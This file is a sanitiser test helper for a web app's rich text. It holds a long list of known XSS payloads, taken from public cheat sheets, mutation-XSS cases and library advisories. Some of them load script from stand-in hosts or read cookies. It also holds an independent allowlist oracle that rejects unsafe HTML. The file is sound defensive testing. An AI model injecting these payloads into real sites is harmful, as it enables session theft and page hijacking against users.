import { type AnyNode, type Element, isTag, isText } from 'domhandler'
import { decodeHTML } from 'entities'
import { parseDocument } from 'htmlparser2'

// Known XSS attacks, and an oracle that judges rich-text HTML as a browser would read it.
// The unit test puts every payload through sanitizeRichText; integration tests can put the
// same payloads through the post save path and the rendered page (give assertSafeHtml the
// inner HTML of a .rich-text block, not a whole page: the page has its own scripts).
// The oracle's rules are written out here, not imported from the sanitiser, so a mistake in
// the sanitiser's allowlist cannot also hide in the check.

const tab = '\t'
const nul = '\u0000'
const charRefs = (text: string, format: (code: number) => string) => [...text].map((c) => format(c.charCodeAt(0))).join('')

export const XSS_PAYLOADS: string[] = [
  // OWASP XSS filter evasion cheat sheet
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>',
  '<IMG SRC="javascript:alert(\'XSS\');">',
  "<IMG SRC=JaVaScRiPt:alert('XSS')>",
  '<IMG SRC=`javascript:alert("RSnake says, \'XSS\'")`>',
  '<a onmouseover="alert(document.cookie)">xxs link</a>',
  '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
  '<IMG SRC=# onmouseover="alert(\'xxs\')">',
  '<IMG SRC= onmouseover="alert(\'xxs\')">',
  '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
  `<IMG SRC=${charRefs('javascript:alert(1)', (c) => `&#${c};`)}>`,
  `<a href="${charRefs('javascript:alert(1)', (c) => `&#${String(c).padStart(7, '0')}`)}">long decimal, no semicolons</a>`,
  `<a href="${charRefs('javascript:alert(1)', (c) => `&#x${c.toString(16)}`)}">hex, no semicolons</a>`,
  `<a href="jav${tab}ascript:alert(1);">embedded tab</a>`,
  '<a href="javas&#x09;cript:alert(1)">encoded tab</a>',
  '<a href="jav&#x0A;ascript:alert(1)">encoded newline</a>',
  '<a href="jav&#x0D;ascript:alert(1)">encoded carriage return</a>',
  `<a href="java${nul}script:alert(1)">null byte</a>`,
  '<a href=" &#14;  javascript:alert(1);">spaces and meta chars</a>',
  '<a href="&#106;avascript:alert(1)">first letter encoded</a>',
  '<a href="javascript&colon;alert(1)">named colon</a>',
  '<a href="&Tab;java&NewLine;script:alert(1)">named whitespace</a>',
  '<a href="\u2028javascript:alert(1)">line separator</a>',
  '<a href="javascript://%0aalert(1)">comment then newline</a>',
  '<a href="javas<!-- -->cript:alert(1)">comment inside the scheme</a>',
  '<a href="vbscript:msgbox(1)">vbscript</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data link</a>',
  '<img src="data:image/svg+xml,&lt;svg onload=alert(1)&gt;">',
  '<SCRIPT/XSS SRC="https://xss.example/xss.js"></SCRIPT>',
  '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
  '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
  '<SCRIPT SRC=https://xss.example/xss.js?< B >',
  '</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
  '<INPUT TYPE="IMAGE" SRC="javascript:alert(1);">',
  '<BODY BACKGROUND="javascript:alert(1)">',
  '<IMG DYNSRC="javascript:alert(1)"><IMG LOWSRC="javascript:alert(1)">',
  '<STYLE>li {list-style-image: url("javascript:alert(1)");}</STYLE><UL><LI>XSS</br>',
  '<svg/onload=alert(1)>',
  '<BGSOUND SRC="javascript:alert(1);">',
  '<LINK REL="stylesheet" HREF="javascript:alert(1);">',
  "<STYLE>@import'https://xss.example/xss.css';</STYLE>",
  '<META HTTP-EQUIV="Link" Content="<https://xss.example/xss.css>; REL=stylesheet">',
  '<STYLE>BODY{-moz-binding:url("https://xss.example/xssmoz.xml#xss")}</STYLE>',
  '<IMG STYLE="xss:expr/*XSS*/ession(alert(1))">',
  '<p style="width: expression(alert(1));">expression</p>',
  '<div style="background:url(javascript:alert(1))">background url</div>',
  '<DIV STYLE="background-image:\\0075\\0072\\006C\\0028\'\\006a\\0061\\0076\\0061\\0073\\0063\\0072\\0069\\0070\\0074\\003a\\0061\\006c\\0065\\0072\\0074\\0028\\0031\\0029\'\\0029">',
  '<XSS STYLE="behavior: url(xss.htc);">',
  '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(1);">',
  '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pgo">',
  '<IFRAME SRC="javascript:alert(1);"></IFRAME>',
  '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
  '<FRAMESET><FRAME SRC="javascript:alert(1);"></FRAMESET>',
  '<TABLE BACKGROUND="javascript:alert(1)"><TR><TD BACKGROUND="javascript:alert(1)">x</TD></TR></TABLE>',
  '<BASE HREF="javascript:alert(1);//">',
  '<base href="https://evil.example/">',
  '<OBJECT TYPE="text/x-scriptlet" DATA="https://xss.example/scriptlet.html"></OBJECT>',
  '<object data="javascript:alert(1)"></object>',
  '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+" type="image/svg+xml" AllowScriptAccess="always">',
  '<!--[if gte IE 4]><SCRIPT>alert(1);</SCRIPT><![endif]-->',
  '<XML ID="xss"><I><B><IMG SRC="javas<!-- -->cript:alert(1)"></B></I></XML>',
  '<SCRIPT>document.write("<SCRI");</SCRIPT>PT SRC="https://xss.example/xss.js"></SCRIPT>',
  '<A HREF="//evil.example/">protocol-relative</A>',
  // PortSwigger's cheat sheet: event handlers, odd syntax, other elements that run script
  '<img src=x onerror=alert(1)>',
  '<img/src="x"/onerror=alert(1)>',
  '<img src="x"onerror=alert(1)>',
  '<img src=x:alert(alt) onerror=eval(src) alt=0>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>Click</text></a></svg>',
  "<svg><use href=\"data:image/svg+xml,&lt;svg id='x' xmlns='http://www.w3.org/2000/svg'&gt;&lt;image href='1' onerror='alert(1)' /&gt;&lt;/svg&gt;#x\" /></svg>",
  '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">CLICKME</maction></math>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)></video><audio src onerror=alert(1)>',
  '<input autofocus onfocus=alert(1)><select autofocus onfocus=alert(1)><textarea autofocus onfocus=alert(1)></textarea>',
  '<form action="javascript:alert(1)"><button formaction="javascript:alert(1)">x</button></form>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<xss id=x tabindex=1 onfocus=alert(1)></xss>',
  '<style>@keyframes x{}</style><p style="animation-name:x" onanimationstart="alert(1)">x</p>',
  '<a href="#" onclick="alert(1)">click</a>',
  '<a href="https://ok.example/">ok</a><a/href="javascript:alert(1)">slash for space</a>',
  '<img src="/ok.png" srcset="javascript:alert(1) 1x, https://tracker.example/p.gif 2x">',
  '<img src="https://tracker.example/pixel.gif">',
  '<img src="/\\tracker.example/pixel.gif">',
  '<img src="/&#9;/tracker.example/pixel.gif">',
  '<a href="/\\evil.example/">backslash host</a>',
  // Mutation XSS: markup that parses one way in the sanitiser and another in the browser
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<svg><style><img src=x onerror=alert(1)>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror=alert(1)>"></style></h1>',
  '<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1) src=1>">',
  '<math><mtext><table><mglyph><malignmark><style><img src=x onerror=alert(1)>',
  '<svg><foreignobject><p><style><p title="</style><img src onerror=alert(1)>"></style></p>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
  '<iframe><p title="</iframe><img src=x onerror=alert(1)>">',
  '<noembed><p title="</noembed><img src=x onerror=alert(1)>">',
  '<noframes><p title="</noframes><img src=x onerror=alert(1)>">',
  '<textarea><p title="</textarea><img src=x onerror=alert(1)>">',
  '<title><p title="</title><img src=x onerror=alert(1)>">',
  '<template><p title="</template><img src=x onerror=alert(1)>">',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<?xml version="1.0"?><img src=x onerror=alert(1)>',
  '<![CDATA[><img src=x onerror=alert(1)>]]>',
  '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">',
  '<table><form><math><mtext></form><form><mglyph><style><img src=x onerror=alert(1)>',
  '<math><style><img src=x onerror=alert(1)></style></math>',
  '<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>',
  '<noscript><style></noscript><img src=x onerror=alert(1)></style>',
  '<template><style></template><img src=x onerror=alert(1)></style>',
  '<textarea><!--</textarea><img src=x onerror=alert(1)>-->',
  '<title><!--</title><img src=x onerror=alert(1)>-->',
  // sanitize-html advisories the pinned 2.17.5 is still in range of (unreachable with our allowlist)
  '<textarea></textarea/><img src=x onerror=alert(1)>',
  '<svg><textarea><img src=x onerror=alert(1)></textarea></svg>',
  '<svg><set attributeName="href" to="javascript:alert(1)"/><a><animate attributeName=href values="https://ok.example;javascript:alert(1)"/><text>x</text></a></svg>',
  '<select><template><style><!--</style><a rel="--></template></select><img src=x onerror=alert(1)>">',
  '<svg><p><style><a id="</style><img src=x onerror="document.title=\'XSS\'">"></a></style></p></svg>',
  '<img src=x onerror="top.__xss&&top.__xss(\'onerror\')">',
  // DOM clobbering: ids and names that shadow globals or the page's own elements
  '<p id="location">clobber location</p>',
  '<a id="__next" href="https://evil.example/">clobber the app root</a>',
  '<img name="getElementById" src="/x.png"><form name="cookie"></form>',
  '<a id="CONFIG" name="CONFIG" href="cid:x">config</a><a id="CONFIG" name="CONFIG">again</a>',
  '<li id="main">the skip-link target</li><h2 id="sign">the sign form</h2>',
  '<img name="__next_f" src="/x.png"><form id="__next_f"></form><a id="__next_f" name="push">next\'s flight data</a>',
  '<a id="document">document</a><img name="cookie" src="/x.png"><form name="getElementsByTagName"><input name="length"></form>',
  '<a id="self" name="self">self</a><a id="__NEXT_DATA__">next data</a><embed name="defaultView">',
  '<p id="__next_f">paragraph named like the flight data</p><h2 id="u-ok">a safe id</h2>',
  // Splitting at [petition slug] must never cut a tag in half (components/site/post-body.tsx)
  '<a title="[petition x] onfocus=alert(1) autofocus x=">shortcode inside an attribute</a>',
]

const ids = ['id'] as const
const ALLOWED_ATTRIBUTES: Record<string, readonly string[]> = {
  a: ['href', 'title', 'rel', 'id'],
  img: ['src', 'alt', 'width', 'height', 'loading', 'decoding'],
  th: ['scope'],
  span: ['class'],
  h2: ids,
  h3: ids,
  h4: ids,
  p: ids,
  li: ids,
  sup: ids,
  ...Object.fromEntries(
    [
      'br',
      'hr',
      'ul',
      'ol',
      'blockquote',
      'cite',
      'strong',
      'em',
      'b',
      'i',
      'u',
      's',
      'sub',
      'figure',
      'figcaption',
      'small',
      'code',
      'pre',
      'table',
      'thead',
      'tbody',
      'tr',
      'td',
    ].map((tag) => [tag, []]),
  ),
}

const CONTENT_ID = /^u-[a-z0-9_-]{1,62}$/
const SAFE_REL = new Set(['noopener', 'noreferrer', 'nofollow'])

// The URL as a browser would act on it: entities decoded (a second time too, in case the
// parser here missed one the browser would take), whitespace and control characters gone.
const flatten = (url: string) =>
  decodeHTML(url)
    .replace(/[\s\u0000-\u0020\u007f-\u009f\u200b-\u200f\ufeff]/g, '')
    .toLowerCase()

function urlProblem(attribute: 'href' | 'src', value: string): string | undefined {
  const url = flatten(value)
  if (/^\/(?![/\\])/.test(url)) return undefined
  if (attribute === 'src') return 'is not a site-relative path'
  if (url.startsWith('#')) return CONTENT_ID.test(url.slice(1)) ? undefined : 'points at an id outside the u- namespace'
  if (/^(https?:\/\/|mailto:)/.test(url)) return undefined
  const scheme = /^([a-z][a-z0-9+.-]*):/.exec(url)?.[1]
  return scheme ? `uses the ${scheme}: scheme` : 'is neither absolute, site-relative nor a fragment'
}

function attributeProblem(tag: string, name: string, value: string): string | undefined {
  if (name.startsWith('on')) return 'is an event handler'
  if (name === 'style') return 'is a style attribute'
  if (!(ALLOWED_ATTRIBUTES[tag] ?? []).includes(name)) return 'is not allowed on this element'
  if (value.includes('[petition ')) return 'holds a petition shortcode, which the page would split'
  if (name === 'href' || name === 'src') return urlProblem(name, value)
  if (name === 'id' && !CONTENT_ID.test(value)) return 'is not a u- prefixed id'
  if (name === 'class' && value !== 'credit') return 'is a class other than "credit"'
  if (name === 'rel' && !value.split(/\s+/).every((token) => SAFE_REL.has(token))) return 'has an unexpected rel'
  return undefined
}

function elementProblems(element: Element): string[] {
  const tag = element.name
  if (!ALLOWED_ATTRIBUTES[tag]) return [`<${tag}> is not an allowed element`]
  const problems = Object.entries(element.attribs).flatMap(([name, value]) => {
    const problem = attributeProblem(tag, name, value)
    return problem ? [`<${tag} ${name}="${value}"> ${problem}`] : []
  })
  const external = /^https?:/.test(flatten(element.attribs.href ?? ''))
  if (tag === 'a' && external && !/noopener/.test(element.attribs.rel ?? '')) problems.push(`<a href="${element.attribs.href}"> lacks rel=noopener`)
  return problems
}

function problemsIn(nodes: AnyNode[]): string[] {
  return nodes.flatMap((node) => {
    if (isText(node)) return []
    if (isTag(node)) return [...elementProblems(node), ...problemsIn(node.children)]
    return [`a ${node.type} node (comment, CDATA or directive) is not allowed`]
  })
}

/** Throws, naming every problem, unless `html` holds only what rich text may hold. */
export function assertSafeHtml(html: string): void {
  const problems = problemsIn(parseDocument(html).children)
  if (problems.length) throw new Error(`unsafe rich text:\n  ${problems.join('\n  ')}\nin: ${html}`)
}

const escapeText = (text: string) => text.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;')
const VOID = new Set(['img', 'br', 'hr'])

function serialize(nodes: AnyNode[]): string {
  return nodes
    .map((node) => {
      if (isText(node)) return escapeText(node.data)
      if (!isTag(node)) return ''
      const attributes = Object.entries(node.attribs)
        .map(([name, value]) => (value || name === 'alt' ? ` ${name}="${escapeText(value).replace(/"/g, '&quot;')}"` : ` ${name}`))
        .join('')
      return VOID.has(node.name) ? `<${node.name}${attributes} />` : `<${node.name}${attributes}>${serialize(node.children)}</${node.name}>`
    })
    .join('')
}

/** Parses `html` and writes it back the way sanitize-html writes; stable output comes back unchanged. */
export function reparse(html: string): string {
  return serialize(parseDocument(html).children)
}
